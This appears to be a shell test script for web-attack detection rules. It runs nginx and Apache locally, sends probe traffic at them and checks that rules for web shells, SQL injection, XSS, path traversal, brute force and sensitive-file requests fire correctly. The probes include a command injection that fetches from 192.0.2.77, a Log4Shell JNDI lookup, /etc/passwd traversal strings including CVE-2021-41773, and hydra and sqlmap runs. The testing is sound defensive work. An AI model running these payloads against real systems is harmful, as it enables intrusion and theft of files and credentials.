# nginx and Apache, and who looks for holes in them.
access=/var/log/nginx/access.log
mkdir -p /var/www/site/static /var/www/site/private
cd /var/www/site
echo '<html><body>hello</body></html>' >index.html
echo 'SECRET=1' >.env
echo 'body {}' >static/page.css
# shellcheck disable=SC2016 # It is PHP.
echo '<?php $c = new SQLite3(":memory:");' >item.php
printf 'bob:%s\n' "$(openssl passwd -apr1 right)" >/etc/nginx/htpasswd
cat >/etc/nginx/nginx.conf <<'CONF'
user www-data;
worker_processes 1;
pid /run/nginx.pid;
daemon off;
error_log /var/log/nginx/error.log info;
events { worker_connections 64; }
http {
	access_log /var/log/nginx/access.log combined;
	server {
		listen 80;
		root /var/www/site;
		location /private/ { auth_basic "private"; auth_basic_user_file /etc/nginx/htpasswd; }
		location = /wp-login.php { return 200; }
		location = /item { return 200 "one item"; }
		location = /search { return 200 "nothing found"; }
	}
}
CONF
host ''
setpriv --pdeathsig KILL nginx &
server=$!
listens 80
site=http://192.0.2.1
printf '%s\n' wrong guess secret letmein 123456 >/tmp/passwords
ask() { attack curl -s -o /dev/null --path-as-is -m 5 "$@"; }

begin nginx-light curl; ask "$site/uploads/WSO.php"
gives web_backdoor_probing 'a shell' 1 $access .
begin nginx-light curl; ask "$site/"; ask "$site/static/page.css"; ask "$site/none.php"
gives web_backdoor_probing 'pages' 0 $access .
gives web_scanner_agent 'pages' 0 $access .
gives web_exploit_probing 'pages' 0 $access .
begin nginx-light curl; ask "$site/cgi-bin/status?ip=127.0.0.1;wget+http://192.0.2.77/x"
gives web_command_injection 'a download' 1 $access .
begin nginx-light curl; ask -X POST "$site/lib/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
gives web_exploit_probing 'a test runner that was left on the server' 1 $access .
begin nginx-light curl; ask -A "\${jndi:ldap://192.0.2.77/a}" "$site/"
gives web_exploit_probing 'a lookup in the agent' 1 $access .
begin nginx-light curl; ask -X POST "$site/_IGNITION/Execute-Solution"
gives web_exploit_probing 'in capitals' 1 $access .
begin nginx-light hydra; attack hydra -I -t 1 -l bob -P /tmp/passwords http-get://192.0.2.1/private/
gives web_login_brute_force 'five wrong passwords, nginx' 1 /var/log/nginx/error.log .
begin nginx-light curl; ask -u bob:wrong "$site/private/"; ask -u bob:guess "$site/private/"
gives web_login_brute_force 'two wrong passwords, nginx' 0 /var/log/nginx/error.log .
begin nginx-light hydra; for _ in 1 2 3 4; do attack hydra -I -t 1 -l admin -P /tmp/passwords 192.0.2.1 http-post-form '/wp-login.php:log=^USER^&pwd=^PASS^:S=welcome'; done
gives web_login_posts 'twenty posts' 1 $access .
begin nginx-light curl; for _ in $(seq 20); do ask "$site/wp-login.php"; done
gives web_login_posts 'twenty looks' 0 $access .
begin nginx-light curl; for _ in 1 2 3 4 5; do ask "https://192.0.2.1:80/"; done
gives web_malformed_requests 'five handshakes of TLS' 1 $access .
begin nginx-light curl; for _ in 1 2; do ask "https://192.0.2.1:80/"; done
gives web_malformed_requests 'two' 0 $access .
begin nginx-light curl; for path in '/static/../../../../etc/hostname' '/page?file=..%2f..%2f..%2f..%2fetc%2fpasswd' '/%252e%252e%252f%252e%252e%252fsecret'; do ask "$site$path"; done
gives web_path_traversal 'three ways to write it' 1 $access .
begin nginx-light curl; ask "$site/static/../page.css"
gives web_path_traversal 'one broken link' 0 $access .
begin nginx-light gobuster; for i in $(seq 40); do echo "admin$i"; done >/tmp/words; attack gobuster dir -q -t 1 -u "$site" -w /tmp/words
gives web_scan_missing 'a list of words' 1 $access .
gives web_scanner_agent 'a list of words' 1 $access .
begin nginx-light curl; for _ in $(seq 25); do ask "$site/none"; done
gives web_scan_missing 'one page, often' 0 $access .
begin nginx-light nmap; attack nmap -n -Pn -p 80 --script http-title,http-methods 192.0.2.1
gives web_scanner_agent 'nmap' 1 $access .
begin nginx-light whatweb; attack whatweb -q "$site"
gives web_scanner_agent 'whatweb' 1 $access .
begin nginx-light sqlmap; attack sqlmap --batch --disable-coloring --flush-session --technique=BU --threads=1 --timeout=5 -u "$site/item?id=1"
gives web_scanner_agent 'sqlmap' 1 $access 'sqlmap/'
gives web_sql_injection 'sqlmap' 1 $access 'sqlmap/'
begin nginx-light curl; for q in '1%27%20OR%201=1--' '1+UNION+SELECT+1,2' '1%20AND%20SLEEP(5)'; do ask "$site/item?id=$q"; done
gives web_sql_injection 'three tries' 1 $access .
begin nginx-light curl; for q in 'union+station' 'select+a+colour' 'drop+shipping'; do ask "$site/search?q=$q"; done
gives web_sql_injection words 0 $access .
gives web_xss_probing words 0 $access .
gives web_command_injection words 0 $access .
begin nginx-light curl; ask "$site/.env"
gives web_sensitive_file_served served 1 $access .
begin nginx-light curl; ask "$site/shop/.env"
gives web_sensitive_file_served 'not there' 0 $access .
begin nginx-light curl; for path in /.git/config /wp-config.php.bak /id_rsa /dump.sql; do ask "$site$path"; done
gives web_sensitive_files 'four files' 1 $access .
begin nginx-light curl; for _ in 1 2 3 4 5 6; do ask "$site/.git/config"; done
gives web_sensitive_files 'one file, often' 0 $access .
begin nginx-light curl; ask "$site/HNAP1/"
gives web_technology_probing 'a router that is not there' 1 $access .
begin nginx-light curl; ask "$site/none"
gives web_technology_probing 'a page that is not there' 0 $access .
begin nginx-light curl; for q in '%3Cscript%3Ealert(1)%3C/script%3E' '%3Cimg%20src=x%20onerror=alert(1)%3E' '%253Csvg%2520onload=x%253E'; do ask "$site/search?q=$q"; done
gives web_xss_probing 'three tries' 1 $access .
kill $server
wait $server

# Apache, with Debian's own configuration.
access=/var/log/apache2/access.log
cp /etc/nginx/htpasswd /etc/apache2/htpasswd
cat >/etc/apache2/sites-enabled/000-default.conf <<'CONF'
<VirtualHost *:80>
	DocumentRoot /var/www/site
	ErrorLog ${APACHE_LOG_DIR}/error.log
	CustomLog ${APACHE_LOG_DIR}/access.log combined
	<Location /private/>
		AuthType Basic
		AuthName private
		AuthUserFile /etc/apache2/htpasswd
		Require valid-user
	</Location>
</VirtualHost>
CONF
mkdir -p /run/apache2 /var/lock/apache2
setpriv --pdeathsig KILL apache2ctl -D FOREGROUND >/out/web.apache 2>&1 &
listens 80
begin apache2 hydra; attack hydra -I -t 1 -l bob -P /tmp/passwords http-get://192.0.2.1/private/
gives web_login_brute_force 'five wrong passwords, Apache' 1 /var/log/apache2/error.log .
begin apache2 curl; for path in '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd' '/icons/.%2e/%2e%2e/%2e%2e/etc/passwd' '/static/..%2f..%2f..%2fetc%2fpasswd'; do ask "$site$path"; done
gives web_path_traversal 'three ways to write it, Apache' 1 $access .
gives web_exploit_probing 'CVE-2021-41773' 1 $access .
begin apache2 curl; for _ in 1 2 3 4 5; do ask "https://192.0.2.1:80/"; done
gives web_malformed_requests 'five handshakes of TLS, Apache' 1 $access .
apache2ctl stop >/dev/null 2>&1
